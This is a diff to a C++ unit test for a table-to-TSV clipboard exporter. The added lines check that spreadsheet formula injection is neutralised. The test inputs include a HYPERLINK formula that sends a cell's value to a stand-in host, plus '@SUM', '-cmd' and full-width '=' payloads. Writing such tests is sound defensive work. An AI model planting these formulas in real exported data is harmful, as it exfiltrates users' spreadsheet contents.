@@ -125,6 +125,9 @@ TEST_CASE("a table for the clipboard is what a spreadsheet takes") {
     CHECK(to_tsv(table) == "客户编码\t收入\n0771000000001\t1234.50\n\"a\tb\"\t无数据\n\"say \"\"x\"\"\nno\"\t-3\n");
     table.rows = {{"short"}};
     CHECK(to_tsv(table) == "客户编码\t收入\nshort\t\n");
+    // No formula comes out of the clipboard, as none comes out of a .csv.
+    table.rows = {{"=HYPERLINK(\"http://x/?\"&A1)", "=1"}, {"@SUM(1)", "+12"}, {"-2.5", "-cmd"}, {"＝1+1", "\t=1"}};
+    CHECK(to_tsv(table) == "客户编码\t收入\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"\t'=1\n'@SUM(1)\t12\n-2.5\t'-cmd\n'＝1+1\t\"'\t=1\"\n");
 }
 
 TEST_CASE("figures are told from what only looks like them") {
